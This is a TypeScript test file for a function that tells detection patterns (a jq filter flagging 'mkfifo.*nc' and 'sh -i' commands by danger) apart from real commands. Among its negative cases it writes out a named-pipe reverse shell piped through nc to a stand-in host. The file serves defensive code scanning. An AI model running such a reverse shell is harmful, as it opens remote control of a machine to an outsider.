import { expect, it } from 'vitest'
import type { Piece } from '../piece.ts'
import { MappedText } from '../text/mapped-text.ts'
import { isMatchPattern } from './is-match-pattern.ts'

function isPattern(text: string, language: Piece['language'] = 'shell'): boolean {
  const match = /mkfifo.*nc/.exec(text)
  if (match === null) throw new Error('nothing found')
  const piece: Piece = {
    path: 'a.sh',
    role: 'script',
    language,
    text: new MappedText(text),
    layer: 0,
    isExample: false,
  }
  return isMatchPattern({ code: [piece] }, piece, match)
}

// WUN-103: a script that sorts commands by danger holds patterns of the dangerous ones.
it('knows what jq looks for', () => {
  expect(isPattern(String.raw`jq 'if (.cmd | test("mkfifo.*nc|sh\\s+-i"; "i")) then 1 else 2 end'`)).toBe(true)
})

it('takes no command for a pattern, and nothing where no jq is or another language calls', () => {
  expect(isPattern('jq . a.json; mkfifo /tmp/f; sh < /tmp/f | nc a.test 9 > /tmp/f')).toBe(false)
  expect(isPattern('jq . a.json; sh -c "mkfifo /tmp/f; nc a.test 9"')).toBe(false)
  expect(isPattern(`jq . a.json; sh -c 'test("mkfifo /tmp/f; nc a.test 9")'`)).toBe(false)
  expect(isPattern('test("mkfifo.*nc")')).toBe(false)
  expect(isPattern('# jq\ntest("mkfifo.*nc")', 'python')).toBe(false)
})
